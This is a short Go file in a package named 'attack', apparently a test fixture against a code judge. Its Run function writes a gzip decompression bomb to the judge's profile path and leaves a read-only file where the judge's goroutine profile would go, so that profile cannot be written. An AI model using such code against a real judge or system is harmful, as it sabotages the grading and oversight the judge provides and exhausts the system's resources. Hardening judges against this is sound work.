package attack

import (
	"compress/gzip"
	"os"
	"time"
)

func Run() {
	os.Remove("/tmp/insight/cpu")
	file, _ := os.Create("/tmp/insight/cpu")
	bomb := gzip.NewWriter(file)
	zeros := make([]byte, 1<<20)
	for range 24 {
		bomb.Write(zeros)
	}
	bomb.Close()
	file.Close()
	// After this the judge's own profile cannot be written: the name is a file that it may not open.
	os.WriteFile("/tmp/insight/goroutine", make([]byte, 2<<20), 0o600)
	os.Chmod("/tmp/insight/goroutine", 0o400)
	time.Sleep(10 * time.Millisecond)
}
